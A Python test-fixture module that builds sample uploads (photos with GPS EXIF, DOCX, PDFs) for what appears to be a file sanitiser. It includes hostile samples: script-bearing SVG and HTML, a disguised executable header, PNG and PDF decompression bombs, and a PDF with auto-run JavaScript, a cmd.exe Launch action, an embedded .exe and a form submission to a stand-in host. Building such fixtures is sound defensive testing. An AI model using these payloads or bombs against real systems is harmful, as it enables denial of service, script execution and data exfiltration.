"""Makers of sample files, in memory: what villages send, and what they must not be able to send."""

import zipfile
import zlib
from functools import lru_cache
from io import BytesIO

import pikepdf
import pillow_heif
from PIL import Image, ImageCms, ImageDraw

pillow_heif.register_heif_opener()

CEPAT = {"preset": "ultrafast"}  # of x265: a photo of 2400 px in 0.8 s instead of 6
RAHASIA = b"99-KAMERA-RAHASIA"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><title>%PDF-1.7</title><script>alert(1)</script>"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200


@lru_cache(maxsize=8)
def foto(lebar: int = 640, tinggi: int = 480, mode: str = "RGB") -> Image.Image:
    """A photo with texture, and a red field in its upper left corner that tells which way is up."""
    gambar = (
        Image.effect_noise((max(1, lebar // 3), max(1, tinggi // 3)), 60)
        .resize((lebar, tinggi))
        .convert("RGB")
    )
    ImageDraw.Draw(gambar).rectangle((0, 0, lebar // 4, tinggi // 4), fill=(220, 20, 20))
    return gambar.convert(mode)


def exif(arah: int = 1) -> Image.Exif:
    """EXIF with a maker's name, an orientation and a place on the map."""
    isi = Image.Exif()
    isi[0x010F] = RAHASIA.decode()
    isi[0x0112] = arah
    isi[0x8825] = {1: "S", 2: (7.0, 40.0, 12.0), 3: "E", 4: (109.0, 39.0, 5.0)}
    return isi


def simpan(gambar: Image.Image, jenis: str, **pilihan: object) -> bytes:
    keluar = BytesIO()
    gambar.save(keluar, jenis, **pilihan)
    return keluar.getvalue()


def jpeg(lebar: int = 640, tinggi: int = 480, arah: int = 1, mode: str = "RGB") -> bytes:
    return simpan(foto(lebar, tinggi, mode), "JPEG", exif=exif(arah), comment=RAHASIA, quality=90)


def png(lebar: int = 640, tinggi: int = 480, mode: str = "RGB") -> bytes:
    return simpan(foto(lebar, tinggi, mode), "PNG", exif=exif())


def webp(lebar: int = 640, tinggi: int = 480) -> bytes:
    return simpan(foto(lebar, tinggi), "WEBP", exif=exif())


def heic(lebar: int = 640, tinggi: int = 480, arah: int = 1) -> bytes:
    return simpan(foto(lebar, tinggi), "HEIF", exif=exif(arah).tobytes(), quality=60, enc_params=CEPAT)


def png_bom(lebar: int, tinggi: int) -> bytes:
    """A PNG that says it is huge and holds one bit a pixel: tiny to send, big to open."""
    return simpan(Image.new("1", (lebar, tinggi)), "PNG")


def profil_lab() -> bytes:
    """A colour profile that does not fit an RGB photo."""
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("LAB")).tobytes()


def animasi(jenis: str) -> bytes:
    kedua = Image.new("RGB", (64, 48), "blue")
    return simpan(
        Image.new("RGB", (64, 48), "red"), jenis, save_all=True, append_images=[kedua], lossless=True
    )


def docx() -> bytes:
    keluar = BytesIO()
    with zipfile.ZipFile(keluar, "w") as arsip:
        arsip.writestr("[Content_Types].xml", "<Types/>")
        arsip.writestr("word/document.xml", "<w:document/>")
    return keluar.getvalue()


def _dokumen(halaman: int, foto_jpeg: bytes | None = None, saringan: str = "polos") -> pikepdf.Pdf:
    dokumen = pikepdf.Pdf.new()
    isi_gambar = foto_jpeg or jpeg(320, 240)
    dct, flate = pikepdf.Name.DCTDecode, pikepdf.Name.FlateDecode
    pilihan = {"polos": dct, "larik": pikepdf.Array([dct]), "ganda": pikepdf.Array([flate, dct])}
    with Image.open(BytesIO(isi_gambar)) as ukuran:
        lebar, tinggi = ukuran.size
    gambar = dokumen.make_stream(
        zlib.compress(isi_gambar) if saringan == "ganda" else isi_gambar,
        Type=pikepdf.Name.XObject,
        Subtype=pikepdf.Name.Image,
        Width=lebar,
        Height=tinggi,
        ColorSpace=pikepdf.Name.DeviceRGB,
        BitsPerComponent=8,
        Filter=pilihan[saringan],
    )
    for nomor in range(halaman):
        lembar = dokumen.add_blank_page(page_size=(595, 842)).obj
        lembar.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Foto=gambar))
        lembar.Contents = dokumen.make_stream(
            b"0.1 0.3 0.8 rg 50 %d 100 40 re f q 300 0 0 225 60 300 cm /Foto Do Q" % (700 - 20 * nomor)
        )
    return dokumen


def _jadi(dokumen: pikepdf.Pdf, **pilihan: object) -> bytes:
    keluar = BytesIO()
    dokumen.save(keluar, **pilihan)  # type: ignore[arg-type]
    dokumen.close()
    return keluar.getvalue()


def pdf(halaman: int = 1, foto_jpeg: bytes | None = None, saringan: str = "polos") -> bytes:
    """Pages with a blue bar and a photo, which carries its EXIF as scanning apps leave it there."""
    dokumen = _dokumen(halaman, foto_jpeg, saringan)
    return _jadi(dokumen, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def pdf_terkunci(sandi: str = "rahasia") -> bytes:
    return _jadi(_dokumen(1), encryption=pikepdf.Encryption(user=sandi, owner="pemilik"))


def pdf_berpemilik() -> bytes:
    """Opens without a password, but forbids changes: many agencies hand out such files."""
    return pdf_terkunci("")


def pdf_raksasa() -> bytes:
    """One page of absurd size."""
    dokumen = _dokumen(1)
    dokumen.pages[0].obj.MediaBox = pikepdf.Array([0, 0, 1_000_000_000, 3])
    return _jadi(dokumen)


def pdf_aliran_bom(mega: int = 2000) -> bytes:
    """Page content of `mega` MB of spaces, packed twice: some kilobytes for two gigabytes."""
    pengemas = zlib.compressobj(9)
    kepala = pengemas.compress(b" ") + pengemas.flush(zlib.Z_FULL_FLUSH)
    satu_mega = pengemas.compress(b" " * 1_000_000) + pengemas.flush(zlib.Z_FULL_FLUSH)
    dokumen = _dokumen(1)
    aliran = dokumen.make_stream(zlib.compress(kepala + satu_mega * mega + b"\x03\x00", 9))
    aliran.Filter = pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode])
    dokumen.pages[0].obj.Contents = aliran
    return _jadi(dokumen, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def pdf_formulir() -> bytes:
    """A form field that shows a black field, filled in by its owner."""
    dokumen = _dokumen(1)
    tampak = dokumen.make_stream(
        b"0 0 0 rg 0 0 200 100 re f",
        Type=pikepdf.Name.XObject,
        Subtype=pikepdf.Name.Form,
        BBox=pikepdf.Array([0, 0, 200, 100]),
    )
    kolom = dokumen.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Widget,
            FT=pikepdf.Name.Tx,
            T="nama",
            V="Sari",
            F=4,
            Rect=pikepdf.Array([350, 50, 550, 150]),
            AP=pikepdf.Dictionary(N=tampak),
        )
    )
    dokumen.pages[0].obj.Annots = pikepdf.Array([kolom])
    dokumen.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([kolom]))
    return _jadi(dokumen)


def pdf_berskrip() -> bytes:
    """Everything in one: scripts at each level, actions, an embedded program, XFA, metadata, PostScript."""
    dokumen = _dokumen(2)
    akar, lembar = dokumen.Root, dokumen.pages[0].obj

    def skrip() -> pikepdf.Dictionary:
        return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('jahat')")

    def tindakan(jenis: str, **isi: str) -> pikepdf.Dictionary:
        return pikepdf.Dictionary({"/S": pikepdf.Name(f"/{jenis}")} | {f"/{k}": v for k, v in isi.items()})

    akar.OpenAction = skrip()
    akar.AA = pikepdf.Dictionary(WC=skrip())
    akar.AcroForm = pikepdf.Dictionary(
        Fields=pikepdf.Array([]), XFA=dokumen.make_stream(b"<xdp:xdp>jahat</xdp:xdp>")
    )
    lembar.AA = pikepdf.Dictionary(O=skrip())
    alamat = tindakan("URI", URI="http://jahat.example/")
    kirim = tindakan("SubmitForm", F="http://jahat.example/kirim")
    luncur = tindakan("Launch", F="cmd.exe")
    lembar.Annots = pikepdf.Array(
        [
            dokumen.make_indirect(
                pikepdf.Dictionary(
                    Type=pikepdf.Name.Annot,
                    Subtype=pikepdf.Name.Link,
                    Rect=pikepdf.Array([0, 0, 600, 800]),
                    A=satu,
                    AA=pikepdf.Dictionary(D=skrip()),
                )
            )
            for satu in (alamat, kirim, luncur, skrip())
        ]
    )
    tersembunyi = dokumen.make_indirect(pikepdf.Dictionary(A=luncur, Dalam=pikepdf.Array([skrip(), kirim])))
    lembar.Resources.Properties = pikepdf.Dictionary(Titip=tersembunyi)
    lembar.Resources.XObject.Post = dokumen.make_stream(
        b"(jahat) print", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name("/PS")
    )
    dokumen.attachments["jahat.exe"] = EXE
    akar.Names.JavaScript = pikepdf.Dictionary(Names=pikepdf.Array(["a", dokumen.make_indirect(skrip())]))
    with dokumen.open_metadata() as meta:
        meta["dc:creator"] = [RAHASIA.decode()]
    dokumen.docinfo["/Author"] = RAHASIA.decode()
    return _jadi(dokumen)
